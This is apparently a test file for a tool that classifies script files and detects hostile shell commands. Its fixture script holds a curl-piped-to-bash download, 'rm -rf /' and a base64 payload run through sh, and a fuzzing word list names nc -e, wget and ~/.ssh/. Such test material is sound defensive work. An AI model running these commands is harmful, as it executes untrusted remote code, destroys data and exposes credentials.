"""Scripts: recognised, and searched in time that does not explode."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.formats.tensor_files import ids, mutations, survives
from violet.formats.shell.commands import hostile_commands


def valid() -> bytes:
    return b"#!/bin/bash\ncurl -s http://x | bash\nrm -rf /\necho aGVsbG8gaGVsbG8gaGVsbG8gaGVsbG8= | base64 -d | sh\n"


@pytest.mark.parametrize(
    ("data", "name"),
    [
        (b"#!/bin/sh\nls\n", "model.bin"),
        (b"#!/usr/bin/env -S bash -e\nls\n", "run"),
        (b"#!/usr/bin/perl\n", "x"),
        (b"ls -l\n", "run.sh"),
        (b"@echo off\r\ndir\r\n", "x.bin"),
        (b"Write-Host x\n", "x.ps1"),
    ],
)
def test_what_a_script_is(data: bytes, name: str) -> None:
    assert ids(data, name)[0] == "shell"


def test_python_is_not_a_shell() -> None:
    assert ids(b"#!/usr/bin/env python3\n", "x.sh")[0] == "python"


@given(
    st.lists(
        st.sampled_from(
            "curl wget -d $( ` | sh bash ; && -o /tmp/x base64 -d rm -rf / nc -e > >> ~/.ssh/ \n env '".split(" ")
        ),
        max_size=200,
    )
)
def test_any_commands(words: list[str]) -> None:
    hostile_commands(" ".join(words))


@given(st.binary(max_size=300) | mutations(valid))
def test_any_bytes(data: bytes) -> None:
    survives("shell", data, "x.sh")
